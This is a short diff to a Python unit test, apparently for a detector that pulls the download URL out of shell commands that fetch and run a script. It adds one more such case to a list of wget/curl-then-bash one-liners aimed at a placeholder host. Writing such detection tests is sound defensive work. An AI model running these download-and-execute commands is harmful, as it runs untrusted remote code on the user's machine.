@@ -68,6 +68,7 @@ class RunsWhatItDownloads(unittest.TestCase):
             "wget -qO i.sh https://a.example/i.sh; bash i.sh",
             "curl -oi.sh https://a.example/i.sh; sh i.sh",
             "curl -s https://a.example/i.sh | xargs -0 sh -c",
+            "curl -o i.sh https://a.example/i.sh; bash -o pipefail i.sh",
             "curl -s https://a.example/i.sh | xargs -I{} bash -c '{}'",
         ]:
             self.assertEqual(urls(command), ["https://a.example/i.sh"], command)
